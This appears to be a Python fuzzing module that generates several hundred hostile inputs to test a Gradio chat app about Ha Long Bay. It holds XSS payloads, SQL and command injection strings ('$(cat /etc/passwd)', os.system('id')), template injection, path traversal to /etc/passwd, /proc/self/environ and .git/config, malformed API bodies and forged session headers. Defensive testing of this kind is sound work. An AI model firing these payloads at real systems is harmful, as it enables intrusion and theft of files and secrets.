"""Inputs that mean harm, by families: what each is, and how it is sent to a running chat."""

import json
import random
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

QUESTION = "Vịnh Hạ Long được UNESCO ghi danh năm nào?"


@dataclass(frozen=True, slots=True)
class Sent:
    """A request: its family, and what goes over the wire. `ask` holds a question instead."""

    family: str
    ask: object = None
    path: str = ""
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def inputs(tab_events: dict[int, int]) -> list[Sent]:
    """More than 300, the same ones every time; `tab_events` are the numbers of the events of the
    tabs and how many values each takes."""
    chance = random.Random(300)
    return [
        *(Sent("markup", each) for each in _markup()),
        *(Sent("controls", each) for each in _controls()),
        *(Sent("long", each) for each in _long()),
        *(Sent("scripts", each) for each in _scripts()),
        *(Sent("queries", each) for each in _queries()),
        *(Sent("noise", each) for each in _noise(chance)),
        *(Sent("no question", each) for each in (None, 7, 1.5, True, [], {}, ["a"], {"a": 1}, "")),
        *(Sent("links", path=each) for each in _links()),
        *(Sent("files", path=each) for each in _files()),
        *_malformed(),
        *_other_apis(),
        *_forged(tab_events),
    ]


def _markup() -> Iterator[str]:
    run = "window.hacked=1"
    for each in (
        f"<script>{run}</script>",
        f"<img src=x onerror={run}>",
        f"<svg onload={run}>",
        f"<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
        f"<a href='javascript:{run}'>x</a>",
        f"<body onload={run}>",
        f"<details open ontoggle={run}>",
        f"<math><mtext><img src=x onerror={run}></mtext></math>",
        f"</bdi></p><script>{run}</script>",
        f"'\"><script>{run}</script>",
        f"\"' autofocus onfocus={run} x='",
        f"<!--<img src='--><img src=x onerror={run}>'>",
        f"<style>@import 'javascript:{run}'</style>",
        f"<object data='javascript:{run}'></object>",
        f"&lt;script&gt;{run}&lt;/script&gt;",
        f"&#60;script&#62;{run}",
        f"%3Cscript%3E{run}%3C/script%3E",
        f"\\u003cscript\\u003e{run}",
        f"${{{run}}} {{{{{run}}}}} <%= {run} %> #{{{run}}}",
        f"[mồi](javascript:{run}) ![x](x) `{run}` $x^2$",
        f"<template><script>{run}</script></template>",
        f"<base href='//evil.example/'><script src=x></script>{run}",
        f"<form action=//evil.example><button>{run}",
        f"<meta http-equiv=refresh content='0;javascript:{run}'>",
    ):
        yield each
        yield f"{QUESTION} {each}"


def _controls() -> Iterator[str]:
    for code in (*range(1, 32), 0x7F, 0x85, 0xA0, 0xAD):
        yield f"Hạ{chr(code)}Long ở đâu?"
    for code in (0x200B, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202E, 0x2066, 0x2067):
        yield f"Hạ {chr(code)}Long ở đâu?"
    for code in (
        0x2060,
        0xFE0F,
        0xFEFF,
        0xFFF9,
        0xFFFD,
        0xFFFE,
        0xFFFF,
        0x1F1FB,
        0xE0041,
        0x10FFFF,
    ):
        yield f"{chr(code)}Hạ Long{chr(code)} ở đâu?{chr(code)}"
    yield "\x00Hạ\x00Long\x00"
    yield "\u202e" * 400
    yield "\u2066" * 100 + QUESTION


def _long() -> Iterator[str]:
    for letters in ("a", "ạ", "👍", "a ", "Hà Nội ", "\n", "<", '"', "\u0301", "%"):
        yield (letters * 100_000)[:100_000]
    yield "a" + "\u0323" * 499
    yield "a" * 500
    yield "ab " * 166
    yield "a" * 501
    yield "(" * 250 + ")" * 250


def _scripts() -> Iterator[str]:
    yield from (
        "Где находится залив Халонг?",
        "下龙湾在哪里？",
        "ハロン湾はどこですか",
        "하롱베이는 어디",
    )
    yield from ("أين يقع خليج ها لونغ؟", "איפה מפרץ הא לונג?", "हा लॉन्ग बे कहाँ है?", "อ่าวฮาลองอยู่ที่ไหน")
    yield from ("Πού είναι ο κόλπος;", "სად არის ყურე?", "👩‍👩‍👧‍👦🏳️‍🌈", "𝓗𝓪 𝓛𝓸𝓷𝓰", "Ｈạ Ｌｏｎｇ")
    yield from ("Z̸̛a̷͝l̶g̵o̸ ở đâu", "ꜧạ ʟonɢ", "Нạ Lоng ở đâu", unicodedata.normalize("NFD", QUESTION))


def _queries() -> Iterator[str]:
    yield from (
        "' OR 1=1 --",
        "'; DROP TABLE articles; --",
        "1 UNION SELECT * FROM meta",
        '" OR ""="',
    )
    yield from (
        "title:* AND body:[* TO *]",
        "a~1000 b^9999",
        "NOT NOT NOT",
        "((((",
        "* ? * ?",
        "\\",
    )
    yield from (
        "../../etc/passwd",
        "file:///etc/passwd",
        "$(cat /etc/passwd)",
        "`id`",
        "; ls",
        "| id",
    )
    yield from ("{{7*7}}", "%s%s%s%n", "{0.__class__}", "__import__('os').system('id')", "\\x00\\n")
    yield from ("null", "undefined", "NaN", "-1", "1e999", "true", "[]", "{}", "0x41414141")
    yield from ("năm 99999999999999999999", "ngày 31/2/0000", "từ năm 9999 đến năm 1", "32/13/2024")
    yield from (
        "(a+)+$ " + "a" * 60,
        "theo báo " * 50,
        "hôm qua " * 60,
        "TP.HCM " * 70,
        "1/1/2024 " * 50,
    )


def _noise(chance: random.Random) -> Iterator[str]:
    letters = "aăâđêôơưáàảãạ .,?!'\"<>&%$#@\\/{}[]()\t\n\u0301\u202e\u200b0123456789"
    for _ in range(20):
        yield "".join(chance.choice(letters) for _ in range(chance.randrange(1, 500)))
    for _ in range(10):
        yield "".join(chr(chance.randrange(1, 0xD800)) for _ in range(chance.randrange(1, 200)))


def _links() -> Iterator[str]:
    for value in (
        *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%ff%fe", "a.b.c", ".", "<script>"),
        *("' OR 1=1", "a" * 5000, "%F0%9F%91%8D", "\u202e", "../index.sqlite", "/etc/passwd"),
    ):
        yield f"/?passage={quote(value, safe='%')}"
    for value in ("<script>window.hacked=1</script>", "../../etc/passwd", "%00", "a" * 5000):
        yield f"/?q={quote(value, safe='%')}"
    yield from (
        "/?__theme=<script>",
        "/?deep_link=../../x",
        "/?passage[]=a&passage[]=b",
        "/?q=1&q=2",
    )


def _files() -> Iterator[str]:
    for name in (
        *("file=/etc/passwd", "file=app.py", "file=..%2f..%2fetc%2fpasswd", "file/etc/passwd"),
        *("proxy=http://127.0.0.1/", "stream/a/b/c", "component_server", "deep_link", "app_id/x"),
        *("upload_progress?upload_id=x", "dev/reload", "process_recording", "login", "logout"),
    ):
        yield f"/gradio_api/{name}"
    yield from ("/file=/etc/passwd", "/static/../../etc/passwd", "/static/..%2f..%2fapp.py")
    yield from ("/assets/%2e%2e/%2e%2e/routes.py", "/svelte/../../x.py", "/assets//etc/passwd")
    yield from ("/tabs/runs/../../index.sqlite", "/tabs/runs/..%2findex.json", "/tabs/runs/.json")
    yield from (
        "/tabs/",
        "/tabs/enter",
        "/tabs/leave",
        "/openapi.json",
        "/docs",
        "/monitoring",
        "//",
    )
    yield from (
        "/.git/config",
        "/index.sqlite",
        "/uploads/",
        "/feedback.jsonl",
        "/proc/self/environ",
    )


def _malformed() -> Iterator[Sent]:
    bodies: list[bytes] = [b"", b"{}", b"[]", b"\xff\xfe", b"null", b"0", b'"a"', b"{", b'{"data"']
    bodies += [b'{"data": 7}', b'{"data": {}}', b'{"data": []}', b'{"data": [[]]}', b"[" * 5000]
    bodies += [b'{"data": ["a"], "fn_index": 9999}', b'{"data": ["a", 1, 2, 3, 4, 5, 6, 7]}']
    bodies += [b'{"data": ["' + b"x" * 300_000 + b'"]}']
    for path in ("/gradio_api/call/ask", "/gradio_api/queue/join"):
        for body in bodies:
            yield Sent("malformed", path=path, body=body)


def _other_apis() -> Iterator[Sent]:
    for name in ("passage", "article"):
        for value in (
            "../../etc/passwd",
            "' OR 1=1 --",
            "<script>",
            "",
            None,
            7,
            ["a"],
            "a" * 9000,
        ):
            body = json.dumps({"data": [value]}).encode()
            yield Sent("ids", path=f"/gradio_api/call/{name}", body=body)
    file = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
    for data in (
        [file],
        [file, True],
        [QUESTION, file],
        [QUESTION, False, file, file, [file], [file], [file]],
    ):
        yield Sent("ids", path="/gradio_api/call/ask", body=json.dumps({"data": data}).encode())


def _forged(tab_events: dict[int, int]) -> Iterator[Sent]:
    """Events of the page and of the tabs, by number, with sessions and states of nobody."""
    states: list[object] = [[], [{"number": 1}], "turns", None, {"__type__": "update"}, [[1, 2]]]
    for number, state in enumerate(states):
        data = {
            "data": [QUESTION, state, "vi", state],
            "fn_index": 2,
            "session_hash": f"forged{number}",
        }
        yield Sent("forged", path="/gradio_api/queue/join", body=json.dumps(data).encode())
    file = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
    for number, count in tab_events.items():
        for headers in ({"origin": "http://evil.example"}, {"cookie": "hoibao-tabs=forged"}):
            data = {
                "data": ["vi", [file], None, None][:count],
                "fn_index": number,
                "session_hash": "../../etc",
                "event_data": {"article": "../../x", "state": "1"},
            }
            body = json.dumps(data).encode()
            yield Sent("tabs", path="/gradio_api/queue/join", body=body, headers=headers)
